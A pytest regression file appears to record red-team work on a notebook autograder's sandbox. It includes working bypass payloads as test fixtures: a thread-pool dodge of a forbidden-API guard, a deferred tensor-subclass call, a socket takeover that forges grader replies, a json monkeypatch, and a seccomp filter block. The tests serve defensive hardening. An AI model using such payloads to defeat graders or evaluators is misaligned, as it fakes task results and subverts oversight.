"""Red-team round 47: what this round confirmed (each test failed before its gap was closed).

- The forbidden-API guard (`calls.ForbiddenAPIGuard`, a TorchFunctionMode armed by `calls.invoke`) lives on torch's
  function-mode stack, which is per thread: a graded function that hands the forbidden call to a thread
  (`ThreadPoolExecutor(1).submit(F.scaled_dot_product_attention, Q, K, V, attn_mask=mask).result()`) is never seen
  by it. calls_torch_sdpa.ipynb scores 19/35 (every value case refused at run time); the same notebook with its one
  line sent through a thread pool scored 34/35 (only the static rule's point lost), test_no_torch_sdpa_at_run_time
  passed.
- The guard's scope ends with the call, but the student's code runs again while the reply is encoded: a
  scaled_dot_product_attention that returns a tensor subclass holding (Q, K, V, mask), whose __torch_function__
  computes F.scaled_dot_product_attention when `detach` is called on it (protocol._tensor_bytes does, outside the
  guard), passed test_no_torch_sdpa_at_run_time and every value case: 32/35 against 19/35.
- A live forger: student code finds the worker's socket to the grader (/proc/self/fd, the only socket), ends its
  own cell and the exec request with frames of its own, and then serves every later request itself (resolve, call,
  call_ahead, time_fresh, exec) from a loop in its last cell; the worker's loop never runs again. Every report the
  worker makes in the student's interpreter (the forbidden-API guard, the inputs changed in place, the devices) is
  then the student's to write, and the function the static rules read is not the one that answers. A notebook whose
  scaled_dot_product_attention is a stub (`return V`: 19/35 without the loop) scored 35/35, its answers computed by
  F.scaled_dot_product_attention in the loop.
- The same forgery with no file descriptor at all: the worker writes and reads its frames through the `json`
  module's attributes (`protocol.frame_bytes` calls `json.dumps`, `parse_frame` `json.loads`), which a cell may
  replace. A notebook that keeps calls_torch_sdpa.ipynb's forbidden call and wraps json.loads/json.dumps (remember
  the last call's arguments; turn its ForbiddenAPIError reply into an ok reply whose value is computed in the hook,
  outside the guard) scored 32/35 against 19/35.
"""
from __future__ import annotations

import ast
from pathlib import Path

import nbformat
import pytest

from tests.conftest import ROOT

EXAMPLES = ROOT / "examples" / "submissions" / "sdpa-from-scratch"


def _level(r) -> str:
    """The worker's level and lock-down, for a failure's message: the thread seal exists only where seccomp loaded
    (one full `make test` run saw these two tests pass a thread at a level it did not record)."""
    sandbox = getattr(r, "sandbox", None)
    return f"isolation {getattr(r, 'isolation', None)}, seccomp {getattr(sandbox, 'seccomp', None)}"


def _test(r, name: str):
    return next(t for t in r.tests if t.name == name or t.name.endswith(": " + name) or t.name.endswith(name))


def _replace_def(nb, name: str, code: str) -> None:
    cell = next(c for c in nb.cells if c.cell_type == "code" and c.source.lstrip().startswith(f"def {name}("))
    cell.source = code


# --- the forbidden-API guard and threads ---------------------------------------------------------------------

THREADED_SDPA = """from concurrent.futures import ThreadPoolExecutor
_pool = ThreadPoolExecutor(1)

def scaled_dot_product_attention(Q, K, V, mask=None):
    \"\"\"softmax(Q K^T / sqrt(d_k)) V with an optional boolean mask (True = may attend).\"\"\"
    return _pool.submit(F.scaled_dot_product_attention, Q, K, V, attn_mask=mask).result()
"""


def test_cells_may_use_threads_but_a_graded_call_starts_none(tmp_path, grader):
    # the guard is a torch function mode, per thread: from the first graded call on, a worker whose assignment
    # forbids an API starts no thread (a second seccomp filter refuses clone); its cells ran before, free to
    nb = nbformat.read(EXAMPLES / "full_marks.ipynb", as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(
        "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor(2) as _ex:\n"
        "    _parts = list(_ex.map(abs, [-1, -2]))\nassert _parts == [1, 2]\n"))
    _replace_def(nb, "scaled_dot_product_attention", THREADED_HONEST)
    path = tmp_path / "thread.ipynb"
    nbformat.write(nb, path)
    r = grader.grade(path, "sdpa-from-scratch", seed=5)
    assert not r.cell_errors if hasattr(r, "cell_errors") else True
    basic = _test(r, "test_float32_no_mask")
    assert basic.score == 0 and "can't start new thread" in basic.message, (basic.message, _level(r))


def test_a_thread_left_running_blocks_graded_calls(tmp_path, grader):
    nb = nbformat.read(EXAMPLES / "full_marks.ipynb", as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(
        "import threading, time\nthreading.Thread(target=time.sleep, args=(3600,), daemon=True).start()\n"))
    path = tmp_path / "left_running.ipynb"
    nbformat.write(nb, path)
    r = grader.grade(path, "sdpa-from-scratch", seed=5)
    basic = _test(r, "test_float32_no_mask")
    assert basic.score == 0 and "still running" in basic.message, basic.message


THREADED_HONEST = """import threading

def scaled_dot_product_attention(Q, K, V, mask=None):
    out = {}
    def work():
        S = Q @ K.transpose(-2, -1) / Q.shape[-1] ** 0.5
        if mask is not None:
            S = S.masked_fill(~mask, float("-inf"))
        out["o"] = torch.nan_to_num(torch.softmax(S, dim=-1)) @ V
    t = threading.Thread(target=work)
    t.start()
    t.join()
    return out["o"]
"""


@pytest.mark.parametrize("warm", [False, True], ids=["pool-started-in-the-call", "pool-warmed-in-a-cell"])
def test_a_forbidden_call_sent_to_a_thread_pool_is_refused_at_run_time(tmp_path, grader, warm):
    nb = nbformat.read(EXAMPLES / "calls_torch_sdpa.ipynb", as_version=4)
    _replace_def(nb, "scaled_dot_product_attention", THREADED_SDPA + ("_pool.submit(abs, -1).result()\n" if warm else ""))
    path = tmp_path / "threaded_sdpa.ipynb"
    nbformat.write(nb, path)
    r = grader.grade(path, "sdpa-from-scratch", seed=5)
    assert r.status == "rejected" or _test(r, "test_no_torch_sdpa_at_run_time").score == 0, (r.status, r.score)
    assert r.status == "rejected" or r.score <= 19, r.score     # calls_torch_sdpa.ipynb's own score


LATER_SDPA = """class _Later(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is torch.Tensor.detach and hasattr(args[0], "_qkv"):
            Q, K, V, mask = args[0]._qkv
            return F.scaled_dot_product_attention(Q, K, V, attn_mask=mask)
        return super().__torch_function__(func, types, args, kwargs or {})

def scaled_dot_product_attention(Q, K, V, mask=None):
    \"\"\"softmax(Q K^T / sqrt(d_k)) V with an optional boolean mask (True = may attend).\"\"\"
    out = torch.empty(0).as_subclass(_Later)
    out._qkv = (Q, K, V, mask)
    return out
"""


def test_a_forbidden_call_made_while_the_reply_is_encoded_is_refused(tmp_path, grader):
    nb = nbformat.read(EXAMPLES / "calls_torch_sdpa.ipynb", as_version=4)
    _replace_def(nb, "scaled_dot_product_attention", LATER_SDPA)
    path = tmp_path / "later_sdpa.ipynb"
    nbformat.write(nb, path)
    r = grader.grade(path, "sdpa-from-scratch", seed=5)
    assert r.status == "rejected" or _test(r, "test_no_torch_sdpa_at_run_time").score == 0, (r.status, r.score)
    assert r.status == "rejected" or r.score <= 19, r.score     # calls_torch_sdpa.ipynb's own score


# --- a live forger: the student's loop serves the grader's requests -------------------------------------------

TAKEOVER = """# A live forger: this cell takes over the worker's end of the grader's socket and answers every
# request itself; the worker's own loop never runs again (it waits for this cell forever).
import os, json, struct, base64, math
import torch
import torch.nn.functional as _F
_impl = {"scaled_dot_product_attention": lambda Q, K, V, mask=None: _F.scaled_dot_product_attention(Q, K, V, attn_mask=mask)}

def _sock():
    for n in os.listdir('/proc/self/fd'):
        fd = int(n)
        if fd > 2:
            try:
                if os.readlink(f'/proc/self/fd/{fd}').startswith('socket:'):
                    return fd
            except OSError:
                pass
_fd = _sock()
def _send(m):
    b = json.dumps(m, separators=(",", ":")).encode()
    v = memoryview(struct.pack('>Q', len(b)) + b)
    while v:
        v = v[os.write(_fd, v):]
def _read(n):
    out = b""
    while len(out) < n:
        c = os.read(_fd, n - len(out))
        if not c:
            os._exit(0)
        out += c
    return out
def _recv():
    (n,) = struct.unpack('>Q', _read(8))
    return json.loads(_read(n))
_CODES = {torch.float64: "F64", torch.float32: "F32", torch.float16: "F16", torch.bfloat16: "BF16",
          torch.int64: "I64", torch.int32: "I32", torch.int16: "I16", torch.int8: "I8", torch.uint8: "U8", torch.bool: "BOOL"}
_DT = {v: k for k, v in _CODES.items()}
def _tbytes(t):
    t = t.detach().cpu().contiguous().clone()
    data = t.reshape(-1).view(torch.uint8).numpy().tobytes()
    h = json.dumps({"t": {"dtype": _CODES[t.dtype], "shape": list(t.shape), "data_offsets": [0, len(data)]}}).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack('<Q', len(h)) + h + data
def _untensor(s):
    raw = base64.b64decode(s)
    (hl,) = struct.unpack('<Q', raw[:8])
    h = json.loads(raw[8:8 + hl])["t"]
    data = bytearray(raw[8 + hl:])
    dt = _DT[h["dtype"]]
    if not data:
        return torch.empty(h["shape"], dtype=dt)
    return torch.frombuffer(data, dtype=torch.uint8).view(dt).reshape(h["shape"]).clone()
def _enc(v):
    if v is None or type(v) in (bool, int, str):
        return v
    if type(v) is float:
        return v if math.isfinite(v) else {"__float__": repr(v)}
    if isinstance(v, torch.Tensor):
        return {"__tensor__": base64.b64encode(_tbytes(v)).decode()}
    if isinstance(v, tuple):
        return {"__tuple__": [_enc(x) for x in v]}
    if isinstance(v, list):
        return [_enc(x) for x in v]
    if isinstance(v, dict):
        return {"__dict__": {k: _enc(x) for k, x in v.items()}}
    if isinstance(v, torch.dtype):
        return {"__dtype__": str(v).removeprefix("torch.")}
    return _enc(float(v)) if hasattr(v, "__float__") else str(v)
def _dec(v):
    if type(v) is list:
        return [_dec(x) for x in v]
    if type(v) is not dict:
        return v
    if "__tensor__" in v:
        t = _untensor(v["__tensor__"])
        return t.expand(*v["expand"]) if "expand" in v else t
    if "__tuple__" in v:
        return tuple(_dec(x) for x in v["__tuple__"])
    if "__dict__" in v:
        return {k: _dec(x) for k, x in v["__dict__"].items()}
    if "__float__" in v:
        return float(v["__float__"])
    if "__dtype__" in v:
        return getattr(torch, v["__dtype__"])
    if "__device__" in v:
        return torch.device(v["__device__"])
    if "__generator__" in v:
        g = torch.Generator(); g.set_state(_dec(v["__generator__"])); return g
    return v
def _fn(name):
    return _impl.get(name) or _G.get(name)
def _kind(name):
    if name not in _G:
        return "missing"
    return "callable" if callable(_G[name]) else "value"
def _resolve_one(rid, name, tag):
    k = _kind(name)
    if k == "value":
        _send({"id": rid, "ok": True, "kind": "value", "value": _enc(_G[name]), **tag})
    else:
        _send({"id": rid, "ok": True, "kind": k, "value": None, **tag})
def _call(fn, args, kwargs, grad_wrt=None, grad_output=None):
    if grad_wrt is None:
        out = fn(*args, **kwargs)
        return out, {"devices": ["cpu"], "changed": []}
    for i in grad_wrt:
        args[i] = args[i].detach().requires_grad_(True)
    out = fn(*args, **kwargs)
    g = grad_output if grad_output is not None else torch.ones_like(out)
    grads = torch.autograd.grad((out * g).sum(), [args[i] for i in grad_wrt], allow_unused=True)
    return (out.detach(), [None if x is None else x.detach() for x in grads]), {"devices": ["cpu"]}
def _try(rid, thunk, tag={}):
    try:
        value, extra = thunk()
        _send({"id": rid, "ok": True, "value": _enc(value), **extra, **tag})
    except BaseException as e:
        _send({"id": rid, "ok": False, "error": {"type": type(e).__name__, "message": str(e)[:300], "traceback": ""}, **tag})
def _fresh(fn, specs, kwargs, seed, repeat):
    gen = torch.Generator().manual_seed(int(seed))
    total = None
    for _ in range(max(1, int(repeat))):
        args = [torch.randn(tuple(s), generator=gen, dtype=torch.float64).to(getattr(torch, d)) for s, d in specs]
        out = fn(*args, **kwargs).detach().to("cpu", torch.float64)
        total = out if total is None else total + out
    return total, {}
def _serve():
    while True:
        m = _recv()
        rid, op = m.get("id"), m.get("op")
        if op == "exit":
            os._exit(0)
        if op == "exec":
            for i, src in enumerate(m["cells"]):
                _send({"event": "cell_start", "index": i})
                st, err = "ok", ""
                st, err = "error", "NameError: no"
                _send({"event": "cell_end", "index": i, "status": st, "error": err, "duration_s": 0.01})
            _send({"id": rid, "ok": True, "value": None, "output": ""})
        elif op == "resolve":
            names = [m["name"]] + list(m.get("then") or [])
            if len(names) == 1:
                _resolve_one(rid, names[0], {})
            else:
                for i, n in enumerate(names):
                    _resolve_one(rid, n, {"index": i, "more": i + 1 < len(names)})
        elif op == "call":
            fn = _fn(m["name"])
            go = _dec(m["grad_output"]) if m.get("grad_output") else None
            _try(rid, lambda: _call(fn, list(_dec(m["args"])), dict(_dec(m["kwargs"])), m.get("grad_wrt"), go))
        elif op == "call_ahead":
            calls = m["calls"]
            for i, c in enumerate(calls):
                _try(rid, lambda: _call(_fn(m["name"]), list(_dec(c["args"])), dict(_dec(c["kwargs"]))),
                     {"index": i, "more": i + 1 < len(calls)})
        elif op == "time_fresh":
            _try(rid, lambda: _fresh(_fn(m["name"]), m["specs"], dict(_dec(m["kwargs"])), m["seed"], m["repeat"]))
        else:
            _send({"id": rid, "ok": False, "error": {"type": "X", "message": "?", "traceback": ""}})
# this cell is the notebook's last: end it and the whole exec request (the grader's first: id 1)
_send({"event": "cell_end", "index": _MY_INDEX, "status": "ok", "error": "", "duration_s": 0.01})
_send({"id": 1, "ok": True, "value": None, "output": ""})
_serve()
"""

STUB = 'def scaled_dot_product_attention(Q, K, V, mask=None):\n    """stub"""\n    return V\n'


def _takeover_notebook(dest: Path, takeover: bool) -> Path:
    nb = nbformat.read(EXAMPLES / "full_marks.ipynb", as_version=4)
    _replace_def(nb, "scaled_dot_product_attention", STUB)
    names: list[str] = []
    for c in nb.cells:
        if c.cell_type != "code":
            continue
        try:
            tree = ast.parse(c.source)
        except SyntaxError:
            continue
        for node in tree.body:
            if isinstance(node, ast.FunctionDef):
                names.append(node.name)
            elif isinstance(node, ast.Assign):
                names += [n.id for t in node.targets for n in ast.walk(t) if isinstance(n, ast.Name)]
    names = [n for n in dict.fromkeys(names) if n != "grader"]
    code_cells = sum(c.cell_type == "code" for c in nb.cells)
    if takeover:
        table = "_G = {" + ", ".join(f"{n!r}: {n}" for n in names) + "}\n"
        nb.cells.append(nbformat.v4.new_code_cell(table + TAKEOVER.replace("_MY_INDEX", str(code_cells))))
    nbformat.write(nb, dest)
    return dest


def test_a_worker_whose_student_serves_the_protocol_gains_nothing(tmp_path, grader):
    stub = grader.grade(_takeover_notebook(tmp_path / "stub.ipynb", False), "sdpa-from-scratch", seed=5)
    forged = grader.grade(_takeover_notebook(tmp_path / "takeover.ipynb", True), "sdpa-from-scratch", seed=5)
    assert forged.status == "rejected" or forged.score <= stub.score, (stub.score, forged.score)
    assert forged.status == "rejected" or _test(forged, "test_float32_no_mask").score == 0, forged.score


# --- the same forgery through the json module's attributes (no file descriptor) ------------------------------

JSON_HOOK = """import json, base64, struct, math
import torch
_CODES = {torch.float64: "F64", torch.float32: "F32", torch.float16: "F16", torch.bfloat16: "BF16",
          torch.int64: "I64", torch.int32: "I32", torch.bool: "BOOL", torch.uint8: "U8"}
_DT = {v: k for k, v in _CODES.items()}
def _enc(t):
    t = t.detach().cpu().contiguous().clone()
    data = t.reshape(-1).view(torch.uint8).numpy().tobytes()
    h = json.dumps({"t": {"dtype": _CODES[t.dtype], "shape": list(t.shape), "data_offsets": [0, len(data)]}}).encode()
    h += b" " * (-len(h) % 8)
    return {"__tensor__": base64.b64encode(struct.pack("<Q", len(h)) + h + data).decode()}
def _dec(v):
    if type(v) is list:
        return [_dec(x) for x in v]
    if type(v) is dict and "__tensor__" in v:
        raw = base64.b64decode(v["__tensor__"])
        (n,) = struct.unpack("<Q", raw[:8])
        h = json.loads(raw[8:8 + n])["t"]
        t = torch.frombuffer(bytearray(raw[8 + n:]) or bytearray(1), dtype=torch.uint8)
        t = t[:len(raw) - 8 - n].view(_DT[h["dtype"]]).reshape(h["shape"]).clone()
        return t.expand(*v["expand"]) if "expand" in v else t
    if type(v) is dict and "__dict__" in v:
        return {k: _dec(x) for k, x in v["__dict__"].items()}
    return v
_loads, _dumps = json.loads, json.dumps
_last = {}
def _my_loads(s, *a, **k):
    m = _loads(s, *a, **k)
    if isinstance(m, dict) and m.get("op") == "call":
        _last.clear(); _last.update(m)
    return m
def _my_dumps(obj, *a, **k):
    if (isinstance(obj, dict) and obj.get("ok") is False and isinstance(obj.get("error"), dict)
            and obj["error"].get("type") == "ForbiddenAPIError" and _last.get("id") == obj.get("id")
            and _last.get("grad_wrt") is None):
        try:
            out = scaled_dot_product_attention(*_dec(_last["args"]), **_dec(_last["kwargs"]))   # no guard here
            obj = {"id": obj["id"], "ok": True, "value": _enc(out), "devices": ["cpu"], "changed": []}
        except Exception:
            pass
    return _dumps(obj, *a, **k)
json.loads, json.dumps = _my_loads, _my_dumps
"""


def test_replies_rewritten_through_the_json_module_gain_nothing(tmp_path, grader):
    nb = nbformat.read(EXAMPLES / "calls_torch_sdpa.ipynb", as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(JSON_HOOK))
    path = tmp_path / "json_hook.ipynb"
    nbformat.write(nb, path)
    r = grader.grade(path, "sdpa-from-scratch", seed=5)
    assert r.status == "rejected" or _test(r, "test_no_torch_sdpa_at_run_time").score == 0, (r.status, r.score)
    assert r.status == "rejected" or r.score <= 19, r.score     # calls_torch_sdpa.ipynb's own score


def test_the_json_hook_set_by_setattr_changes_no_frame(tmp_path, grader):
    # setattr is not refused before the notebook runs (it only makes the static rules fail closed): the worker's
    # protocol took json's functions when it was imported, so the hook never sees a frame
    hook = JSON_HOOK.replace("json.loads, json.dumps = _my_loads, _my_dumps",
                             "setattr(json, 'loads', _my_loads); setattr(json, 'dumps', _my_dumps)")
    assert hook != JSON_HOOK
    nb = nbformat.read(EXAMPLES / "calls_torch_sdpa.ipynb", as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(hook))
    path = tmp_path / "json_hook_setattr.ipynb"
    nbformat.write(nb, path)
    r = grader.grade(path, "sdpa-from-scratch", seed=5)
    assert r.status == "graded" and _test(r, "test_no_torch_sdpa_at_run_time").score == 0, (r.status, r.score)
    assert r.score <= 19, r.score


def test_nn_parameters_pass_the_guard():
    # nn.Parameter is a tensor subclass with torch's own (disabled) handler: graded code that builds nn.Linear
    # layers is not refused (the scan after round 47's first form showed three such held-out variants refused)
    import torch
    from autograder.sandbox.calls import invoke

    def student(x):
        layer = torch.nn.Linear(3, 2, bias=False)
        return layer(x).shape[-1] + layer.weight.numel()
    out, _devices = invoke(student, [torch.ones(4, 3)], {}, "cpu", forbidden=("scaled_dot_product_attention",),
                           changed=[])
    assert out == 8


# A cell that adds a filter of its own refusing the `seccomp` call, so that the worker's own filter against new
# threads cannot load, then hands the forbidden call to a thread: the worker tries a thread itself rather than
# trusting its filter's load, and runs no graded call where one still starts (review of round 47)
SECCOMP_BLOCKED = """import errno, pyseccomp as _sc
_f = _sc.SyscallFilter(defaction=_sc.ALLOW)
_f.add_rule(_sc.ERRNO(errno.EPERM), "seccomp")
_f.load()
"""


def test_a_cell_that_blocks_the_thread_filter_gains_nothing(tmp_path, grader):
    nb = nbformat.read(EXAMPLES / "calls_torch_sdpa.ipynb", as_version=4)
    _replace_def(nb, "scaled_dot_product_attention", THREADED_SDPA)
    nb.cells.append(nbformat.v4.new_code_cell(SECCOMP_BLOCKED))
    path = tmp_path / "blocked.ipynb"
    nbformat.write(nb, path)
    r = grader.grade(path, "sdpa-from-scratch", seed=5)
    basic = _test(r, "test_float32_no_mask")
    assert basic.score == 0 and "could not be stopped" in basic.message, (basic.message, _level(r))
    assert r.score <= 19, r.score
